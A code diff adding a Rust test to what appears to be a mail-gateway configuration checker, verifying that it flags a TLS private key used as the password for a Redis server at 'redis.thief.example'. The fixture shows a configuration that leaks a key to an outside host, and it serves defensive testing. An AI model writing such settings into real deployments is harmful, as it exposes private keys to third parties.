@@ -140,6 +140,20 @@ fn r102_what_leaves_the_organisation_is_checked_or_told() {
 }
 
 #[test]
+fn a_private_key_is_no_password_for_another_host() {
+    let shared = "  sharedLimits: {redis: {address: \"redis.thief.example:6379\", passwordRef: {name: web-tls, key: tls.key}}}\n";
+    let secret = |labels: &str| {
+        format!(
+            "---\napiVersion: v1\nkind: Secret\nmetadata: {{name: web-tls{labels}}}\ntype: kubernetes.io/tls\nstringData: {{tls.crt: a certificate, tls.key: a key}}\n"
+        )
+    };
+    let told = "is a certificate with its key, no password for another host";
+    assert!(says(shared, &secret(""), told));
+    let meant = problems(shared, &secret(", labels: {postern.dev/use: \"true\"}"));
+    assert!(!meant.iter().any(|problem| problem.contains(told)), "{meant:?}");
+}
+
+#[test]
 fn r104_smime_without_certificates_is_told() {
     let rule = Judge::routing("r", "{modify: {encryption: {smime: {encrypt: true}}}}", "");
     assert!(says("", &rule, "the gateway has no certificates of recipients, so nothing can be encrypted"));
